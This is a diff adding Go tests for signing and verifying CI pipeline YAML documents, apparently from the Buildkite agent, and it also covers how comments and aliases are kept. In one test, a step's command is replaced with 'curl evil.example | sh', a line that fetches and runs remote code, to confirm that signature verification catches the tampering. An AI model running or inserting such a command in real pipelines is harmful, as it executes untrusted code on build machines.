@@ -0,0 +1,247 @@
+package pipeline
+
+import (
+	"bytes"
+	"errors"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/buildkite/agent/v3/env"
+	"github.com/google/go-cmp/cmp"
+	"gopkg.in/yaml.v3"
+)
+
+const documentPipeline = `env:
+  ZEBRA: stripes
+steps:
+  - label: ":go: test"
+    command: go test ./...
+    agents:
+      queue: default
+  - wait
+  - group: deploy
+    steps:
+      - key: deploy
+        command: ./deploy.sh
+`
+
+func TestDocumentSignPreservesOrder(t *testing.T) {
+	t.Parallel()
+
+	doc, err := ParseDocument(strings.NewReader(documentPipeline))
+	if err != nil {
+		t.Fatalf("ParseDocument(documentPipeline) error = %v", err)
+	}
+
+	signer, err := NewSigner("hmac-sha256", "alpacas")
+	if err != nil {
+		t.Fatalf("NewSigner(hmac-sha256, alpacas) error = %v", err)
+	}
+	if err := doc.Sign(signer); err != nil {
+		t.Fatalf("doc.Sign(signer) error = %v", err)
+	}
+
+	var out bytes.Buffer
+	enc := yaml.NewEncoder(&out)
+	enc.SetIndent(2)
+	if err := enc.Encode(doc); err != nil {
+		t.Fatalf("enc.Encode(doc) error = %v", err)
+	}
+
+	// Keys (and quoting) should appear as in the original, with the signature
+	// appended to each command step.
+	got := out.String()
+	wantOrder := []string{
+		"env:", "ZEBRA: stripes", "steps:",
+		`label: ":go: test"`, "command: go test ./...", "agents:", "queue: default", "signature:",
+		"- wait",
+		"group: deploy", "key: deploy", "command: ./deploy.sh", "signature:",
+	}
+	rest := got
+	for _, w := range wantOrder {
+		i := strings.Index(rest, w)
+		if i < 0 {
+			t.Fatalf("signed document missing %q after previous lines:\n%s", w, got)
+		}
+		rest = rest[i+len(w):]
+	}
+
+	// Re-parse and verify.
+	signed, err := ParseDocument(strings.NewReader(got))
+	if err != nil {
+		t.Fatalf("ParseDocument(signed) error = %v", err)
+	}
+	keys := &KeySet{Keys: []*Key{{Algorithm: "hmac-sha256", Key: []byte("alpacas")}}}
+	results, err := signed.Verify(keys, time.Now())
+	if err != nil {
+		t.Fatalf("signed.Verify(keys, now) error = %v", err)
+	}
+
+	var gotPaths []string
+	for _, res := range results {
+		if res.Err != nil {
+			t.Errorf("verifying %s (%s): %v", res.Path, res.Description, res.Err)
+		}
+		gotPaths = append(gotPaths, res.Path+" "+res.Description)
+	}
+	wantPaths := []string{"steps[0] :go: test", "steps[2].steps[0] deploy"}
+	if diff := cmp.Diff(gotPaths, wantPaths); diff != "" {
+		t.Errorf("verified steps diff (-got +want):\n%s", diff)
+	}
+}
+
+func TestDocumentVerifyFailures(t *testing.T) {
+	t.Parallel()
+
+	doc, err := ParseDocument(strings.NewReader(documentPipeline))
+	if err != nil {
+		t.Fatalf("ParseDocument(documentPipeline) error = %v", err)
+	}
+
+	signer, err := NewSigner("hmac-sha256", "alpacas")
+	if err != nil {
+		t.Fatalf("NewSigner(hmac-sha256, alpacas) error = %v", err)
+	}
+	if err := doc.Sign(signer); err != nil {
+		t.Fatalf("doc.Sign(signer) error = %v", err)
+	}
+
+	// Tamper with the first step, and remove the signature from the second.
+	doc.Pipeline.Steps[0].(*CommandStep).Command = "curl evil.example | sh"
+	doc.Pipeline.Steps[2].(*GroupStep).Steps[0].(*CommandStep).Signature = nil
+
+	keys := &KeySet{Keys: []*Key{{Algorithm: "hmac-sha256", Key: []byte("alpacas")}}}
+	results, err := doc.Verify(keys, time.Now())
+	if err != nil {
+		t.Fatalf("doc.Verify(keys, now) error = %v", err)
+	}
+	if len(results) != 2 {
+		t.Fatalf("len(results) = %d, want 2", len(results))
+	}
+	if results[0].Err == nil {
+		t.Errorf("results[0].Err = nil, want a verification error for the tampered step")
+	}
+	if !errors.Is(results[1].Err, ErrStepNotSigned) {
+		t.Errorf("results[1].Err = %v, want %v", results[1].Err, ErrStepNotSigned)
+	}
+}
+
+func TestDocumentSignPreservesCommentsAndAliases(t *testing.T) {
+	t.Parallel()
+
+	input := `# Builds the thing
+agents: &agents
+  queue: default
+steps:
+  - command: make # build it
+    agents: *agents
+`
+	doc, err := ParseDocument(strings.NewReader(input))
+	if err != nil {
+		t.Fatalf("ParseDocument(input) error = %v", err)
+	}
+	signer, err := NewSigner("hmac-sha256", "alpacas")
+	if err != nil {
+		t.Fatalf("NewSigner(hmac-sha256, alpacas) error = %v", err)
+	}
+	if err := doc.Sign(signer); err != nil {
+		t.Fatalf("doc.Sign(signer) error = %v", err)
+	}
+
+	var out bytes.Buffer
+	enc := yaml.NewEncoder(&out)
+	enc.SetIndent(2)
+	if err := enc.Encode(doc); err != nil {
+		t.Fatalf("enc.Encode(doc) error = %v", err)
+	}
+	got := out.String()
+	want := `# Builds the thing
+agents: &agents
+  queue: default
+steps:
+  - command: make # build it
+    agents: *agents
+    signature:
+`
+	if !strings.HasPrefix(got, want) {
+		t.Errorf("signed document = %q, want prefix %q", got, want)
+	}
+}
+
+func TestNewDocument(t *testing.T) {
+	t.Parallel()
+
+	tests := []struct {
+		name, src, want string
+	}{
+		{
+			name: "mapping",
+			src: `# Deploys llamas
+env: &e
+  LLAMA: Kuzco
+steps:
+  # Build first
+  - label: build
+    commands:
+      - make
+      - make install
+    env: *e
+  - command: echo $LLAMA # greet
+`,
+			want: `# Deploys llamas
+env: &e
+  LLAMA: Kuzco
+steps:
+  # Build first
+  - label: build
+    env: *e
+    command: |-
+      make
+      make install
+  - command: echo Kuzco # greet
+`,
+		},
+		{
+			name: "sequence",
+			src: `# Just steps
+- command: echo $LLAMA # greet
+- wait
+`,
+			want: `# Just steps
+- command: echo Kuzco # greet
+- wait
+`,
+		},
+	}
+
+	for _, test := range tests {
+		test := test
+		t.Run(test.name, func(t *testing.T) {
+			t.Parallel()
+
+			p, err := Parse(strings.NewReader(test.src))
+			if err != nil {
+				t.Fatalf("Parse(src) error = %v", err)
+			}
+			if err := p.Interpolate(env.FromMap(map[string]string{"LLAMA": "Kuzco"})); err != nil {
+				t.Fatalf("p.Interpolate(env) error = %v", err)
+			}
+
+			doc, err := NewDocument(strings.NewReader(test.src), p)
+			if err != nil {
+				t.Fatalf("NewDocument(src, p) error = %v", err)
+			}
+
+			var out bytes.Buffer
+			enc := yaml.NewEncoder(&out)
+			enc.SetIndent(2)
+			if err := enc.Encode(doc); err != nil {
+				t.Fatalf("enc.Encode(doc) error = %v", err)
+			}
+			if diff := cmp.Diff(out.String(), test.want); diff != "" {
+				t.Errorf("encoded document diff (-got +want):\n%s", diff)
+			}
+		})
+	}
+}